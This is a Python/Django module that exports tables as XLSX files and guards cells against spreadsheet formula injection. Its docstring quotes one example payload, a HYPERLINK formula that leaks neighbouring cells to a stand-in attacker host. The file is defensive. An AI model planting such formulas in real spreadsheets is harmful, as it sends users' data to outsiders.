"""The one way a table leaves the system: an exporter writes XLSX with real numbers and dates,
and with text that is safe to open.

Every cell of every XLSX we hand out goes through `xlsx_cell`. Text comes from users and from
imported files, so two things are done to it:
- a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
  apostrophe and stays a string cell, so that no spreadsheet takes it for a formula (OWASP
  advice on CSV injection: `=HYPERLINK("http://evil.example/?leak="&B2)` would send the
  neighbouring cells away when clicked);
- characters XML cannot hold (a stray `\\x07` from a pasted text) are dropped: openpyxl refuses
  them and the whole file would fail.
Numbers, dates and empty cells are left as they are: a negative number stays a number.
`restore_text` undoes the apostrophe, so a file we wrote reads back to the same text.
"""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
MAX_WIDTH = 60


def _quoted(text):
    # Apostrophes already in front are counted in, so that `restore_text` gives back exactly
    # the text that was written, even one a user began with an apostrophe.
    return text.lstrip(QUOTE).startswith(FORMULA_PREFIXES)


def safe_text(text):
    """The text as a spreadsheet must receive it: never a formula, nothing XML cannot hold."""
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    return QUOTE + text if _quoted(text) else text


def restore_text(value):
    """A cell value as it was before `safe_text`; any other value unchanged."""
    if isinstance(value, str) and value.startswith(QUOTE) and _quoted(value[1:]):
        return value[1:]
    return value


def excel_value(value):
    if value is None:
        return None
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, datetime):
        # Excel has no time zones: the local time the pages show, without its offset.
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.replace(tzinfo=None)
    if isinstance(value, (int, float, Decimal, date)):
        return value
    # An empty text is an empty cell: openpyxl would write a string cell without a string.
    return safe_text(str(value)) or None


def xlsx_cell(sheet, value):
    """A cell of `sheet` holding `value`: numbers and dates typed and formatted, text safe."""
    value = excel_value(value)
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would make «#N/A» an error cell
    elif isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT
    return cell


def append_row(sheet, values):
    """Append a row below the last one and return its cells (to style them).

    The sheet keeps its current row itself: nothing here rescans the sheet, so writing a table
    takes time in proportion to its size."""
    cells = [xlsx_cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells


def append_table(sheet, headers, rows):
    """The header in bold, then the rows, an autofilter over the table and the header frozen.

    Returns the rows of cells, the header first."""
    header = append_row(sheet, [str(h) for h in headers])
    for cell in header:
        cell.font = Font(bold=True)
    table = [header, *(append_row(sheet, row) for row in rows)]
    first = header[0].row
    sheet.auto_filter.ref = f"A{first}:{get_column_letter(len(header))}{first + len(table) - 1}"
    sheet.freeze_panes = f"A{first + 1}"
    return table


def fit_widths(sheet, table):
    """Columns as wide as their longest value, within MAX_WIDTH."""
    widths = {}
    for cells in table:
        for index, cell in enumerate(cells, start=1):
            length = min(len(str(cell.value or "")), MAX_WIDTH)
            widths[index] = max(widths.get(index, 0), length)
    for index, width in widths.items():
        sheet.column_dimensions[get_column_letter(index)].width = width + 2


def workbook_bytes(workbook):
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write_xlsx(headers, rows, title="Лист1"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    fit_widths(sheet, append_table(sheet, headers, rows))
    return workbook_bytes(workbook)


def xlsx_response(filename, content):
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


class Exporter:
    """Subclasses name themselves and yield rows; the base writes the XLSX."""

    identifier = ""
    verbose_name = ""
    headers = ()

    def rows(self):
        raise NotImplementedError

    def xlsx(self):
        return write_xlsx(self.headers, self.rows(), title=str(self.verbose_name))

    def response(self):
        return xlsx_response(self.identifier, self.xlsx())
